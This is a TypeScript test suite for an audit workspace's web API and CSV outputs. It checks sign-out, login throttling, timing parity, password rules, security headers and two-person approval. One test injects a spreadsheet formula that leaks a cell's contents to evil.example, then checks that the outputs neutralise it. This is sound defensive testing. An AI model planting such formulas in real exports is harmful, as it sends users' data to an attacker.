import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Finding } from '../src/contract/finding.ts';
import { Store } from '../src/store/store.ts';
import { auditBundle } from '../src/usecases/audit-bundle.ts';
import { buildServer } from '../src/workspace/api/server.ts';
import { addUser, createToken } from '../src/workspace/usecases/users.ts';
import { copyOfSample, sampleS, tempDir } from './support/bundles.ts';

const PASSWORD = 'correct horse battery';
let app: FastifyInstance;
let store: Store;
let high: Finding;
let medium: Finding;
const bearer: Record<string, { authorization: string }> = {};

beforeAll(async () => {
  const root = tempDir('daylight-defects-');
  store = await Store.open(join(root, 'd.duckdb'));
  const run = await auditBundle(store, await sampleS(), { outDir: join(root, 'out') });
  high = run.result.findings.find((f) => f.severity === 'high' && f.code === 'prohibited-activity')!;
  medium = run.result.findings.find((f) => f.severity === 'medium' && f.account_id)!;
  for (const [name, role] of [
    ['ana', 'analyst'],
    ['bo', 'analyst'],
    ['root', 'admin'],
  ] as const) {
    await addUser(store, { name, role, password: PASSWORD }, 'test');
    bearer[name] = { authorization: `Bearer ${(await createToken(store, name, 't', 'test')).token}` };
  }
  app = await buildServer(store, { outDir: join(root, 'api-out') });
});
afterAll(async () => {
  await app.close();
  store.close();
});

const login = (name: string, password: string, ip = '10.0.0.1') =>
  app.inject({ method: 'POST', url: '/api/login', payload: { name, password }, remoteAddress: ip });

describe('defects found by probing the workspace', () => {
  it('ends the session on sign-out whatever the query string, though the session was just used', async () => {
    const cookie = String((await login('ana', PASSWORD)).headers['set-cookie']).split(';')[0]!;
    const me = () => app.inject({ method: 'GET', url: '/api/me', headers: { cookie } });
    expect((await me()).statusCode).toBe(200);
    expect(
      (await app.inject({ method: 'POST', url: '/api/logout?next=/', headers: { cookie } })).statusCode,
    ).toBe(200);
    expect((await me()).statusCode).toBe(401);
    const posted = await app.inject({
      method: 'POST',
      url: `/api/findings/${medium.id}/comments`,
      headers: { cookie },
      payload: { text: 'after sign-out' },
    });
    expect(posted.statusCode).toBe(401);
  });

  it('answers a folder that is no bundle with 400 and the reason', async () => {
    for (const bundle_dir of ['/nonexistent', '/etc', `/${'x'.repeat(5000)}`]) {
      const res = await app.inject({
        method: 'POST',
        url: '/api/audit',
        headers: bearer.root,
        payload: { bundle_dir },
      });
      expect(res.statusCode, `${bundle_dir.slice(0, 20)}: ${res.body}`).toBe(400);
      expect(res.json().error.length).toBeGreaterThan(10);
    }
  });

  it('throttles sign-in by account and by address with growing delays, and records the lockout', async () => {
    await addUser(store, { name: 'victim', role: 'viewer', password: PASSWORD }, 'test');
    const answers: number[] = [];
    for (let i = 0; i < 60; i++)
      answers.push((await login('victim', `wrong password ${i}`, '10.9.9.9')).statusCode);
    expect(answers.slice(0, 5)).toEqual([401, 401, 401, 401, 401]);
    expect(answers.filter((s) => s === 429).length).toBeGreaterThan(50);
    const right = await login('victim', PASSWORD, '10.9.9.9');
    expect(right.statusCode).toBe(429);
    expect(Number(right.headers['retry-after'])).toBeGreaterThan(0);
    // The account is locked from any address too.
    expect((await login('victim', PASSWORD, '10.1.1.1')).statusCode).toBe(429);
    const lockouts = (await store.ledger.entries()).filter(
      (e) => e.kind === 'sign-in' && e.body.event === 'lockout',
    );
    expect(lockouts.length).toBeGreaterThan(0);
    expect(lockouts[0]!.body).toMatchObject({ user: 'victim', address: '10.9.9.9' });
  });

  it('takes as long to refuse an unknown user as a wrong password', async () => {
    const time = async (name: string, ip: string) => {
      const t = performance.now();
      expect((await login(name, 'not the password at all', ip)).statusCode).toBe(401);
      return performance.now() - t;
    };
    const known: number[] = [];
    const unknown: number[] = [];
    // Four tries: a fifth failure in a row would lock the account (429).
    for (let i = 0; i < 4; i++) {
      known.push(await time('bo', `10.7.0.${i}`));
      unknown.push(await time(`nobody-${i}`, `10.8.0.${i}`));
    }
    // Medians, with room for a busy machine: a refusal that skips the password hash is a hundred times quicker.
    const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[xs.length >> 1]!;
    expect(median(unknown) / median(known)).toBeGreaterThan(0.25);
    expect(median(unknown) / median(known)).toBeLessThan(4);
  });

  it('refuses weak and common passwords', async () => {
    for (const password of ['aaaaaaaaaaaa', 'password1234', 'qwertyuiop12', 'short']) {
      const res = await app.inject({
        method: 'POST',
        url: '/api/users',
        headers: bearer.root,
        payload: { name: 'weakling', role: 'viewer', password },
      });
      expect(res.statusCode, password).toBe(400);
      expect(res.json().field).toBe('password');
    }
  });

  it('sends nosniff, no referrer and no-store on API answers', async () => {
    const res = await app.inject({ method: 'GET', url: '/api/findings', headers: bearer.ana });
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['referrer-policy']).toBe('no-referrer');
    expect(res.headers['cache-control']).toBe('no-store');
  });

  it('pages the rows behind a figure in the store, so no answer holds them all', async () => {
    const world = await app.inject({
      method: 'GET',
      url: '/api/revenue/rows?basis=billing-postal&period=2022-06&region=WORLD&page_size=50&page=2',
      headers: bearer.ana,
    });
    expect(world.statusCode, world.body).toBe(200);
    const body = world.json();
    expect(body.rows).toHaveLength(50);
    expect(body.invoice_rows).toBeGreaterThan(1000);
    expect(body.page).toBe(2);
    const revenue = readFileSync(
      join(String((await store.snapshots.list())[0]!.bundle_dir), 'invoices.csv'),
      'utf8',
    );
    expect(revenue.length).toBeGreaterThan(world.body.length * 10);
    const tooMany = await app.inject({
      method: 'GET',
      url: '/api/revenue/rows?basis=billing-postal&period=2022-06&region=WORLD&page_size=100000',
      headers: bearer.ana,
    });
    expect(tooMany.statusCode).toBe(400);
  });

  it('refuses unknown fields and changes that change nothing', async () => {
    const url = `/api/findings/${medium.id}/case`;
    const unknown = await app.inject({
      method: 'PATCH',
      url,
      headers: bearer.ana,
      payload: { status: 'investigating', why: 'look', severity: 'low' },
    });
    expect(unknown.statusCode).toBe(400);
    const first = await app.inject({
      method: 'PATCH',
      url,
      headers: bearer.ana,
      payload: { status: 'investigating', why: 'look' },
    });
    expect(first.statusCode).toBe(200);
    const before = (await store.ledger.entries()).length;
    const again = await app.inject({
      method: 'PATCH',
      url,
      headers: bearer.ana,
      payload: { status: 'investigating', why: 'look' },
    });
    expect(again.statusCode).toBe(409);
    expect((await store.ledger.entries()).length).toBe(before);
  });

  it('closes a high finding as dismissed only with a second person, both recorded with reasons', async () => {
    const url = `/api/findings/${high.id}/case`;
    const proposed = await app.inject({
      method: 'PATCH',
      url,
      headers: bearer.ana,
      payload: { status: 'closed', resolution: 'dismissed', why: 'licensed abroad' },
    });
    expect(proposed.statusCode, proposed.body).toBe(200);
    expect(proposed.json()).toMatchObject({ status: 'open', resolution: null });
    expect(JSON.parse(proposed.json().proposal)).toMatchObject({ by: 'ana', why: 'licensed abroad' });
    const self = await app.inject({
      method: 'POST',
      url: `${url}/approve`,
      headers: bearer.ana,
      payload: { why: 'approving my own' },
    });
    expect(self.statusCode, self.body).toBe(409);
    expect(self.json().error).toMatch(/second person/);
    const approved = await app.inject({
      method: 'POST',
      url: `${url}/approve`,
      headers: bearer.bo,
      payload: { why: 'checked the licence' },
    });
    expect(approved.json()).toMatchObject({
      status: 'closed',
      resolution: 'dismissed',
      proposal: null,
      updated_by: 'bo',
    });
    const entries = (await store.ledger.entries()).filter((e) => e.body.finding_id === high.id);
    expect(entries.map((e) => [e.actor, e.body.event, e.body.why])).toEqual([
      ['ana', 'dismissal proposed', 'licensed abroad'],
      ['bo', 'dismissal proposed by ana approved', 'checked the licence'],
    ]);
    expect((await store.verifyLedger()).ok).toBe(true);
  });

  it('shows a page, not JSON, for a path that is no page', async () => {
    const res = await app.inject({ method: 'GET', url: '/no/such/page' });
    expect(res.statusCode).toBe(404);
    expect(String(res.headers['content-type'])).toMatch(/text\/html/);
  });
});

describe('spreadsheet formulas in outputs', () => {
  it('neutralises a formula in a region id in every CSV Daylight writes, numbers untouched', async () => {
    const dir = await copyOfSample();
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"x")';
    const { readFileSync: read, writeFileSync } = await import('node:fs');
    for (const file of ['regions.csv', 'territories.csv', 'teams.csv', 'reported_revenue.csv']) {
      const path = join(dir, file);
      writeFileSync(path, read(path, 'utf8').replaceAll('CN-WEST', `"${formula.replaceAll('"', '""')}"`));
    }
    const root = tempDir('daylight-formula-');
    const s = await Store.open(join(root, 'd.duckdb'));
    try {
      await auditBundle(s, dir, { outDir: join(root, 'out') });
    } finally {
      s.close();
    }
    for (const file of ['revenue.csv', 'reconciliation.csv', 'segments.csv']) {
      const text = read(join(root, 'out', file), 'utf8');
      const cells = text.split(/[\n,]/).map((c) => c.replace(/^"/, ''));
      expect(
        cells.filter((c) => /^[=+@]/.test(c)),
        file,
      ).toEqual([]);
      expect(
        cells.filter((c) => /^-/.test(c) && !/^-\d+\.\d{2}$/.test(c)),
        file,
      ).toEqual([]);
    }
    expect(read(join(root, 'out', 'revenue.csv'), 'utf8')).toContain(`"'=HYPERLINK(`);
  });
});
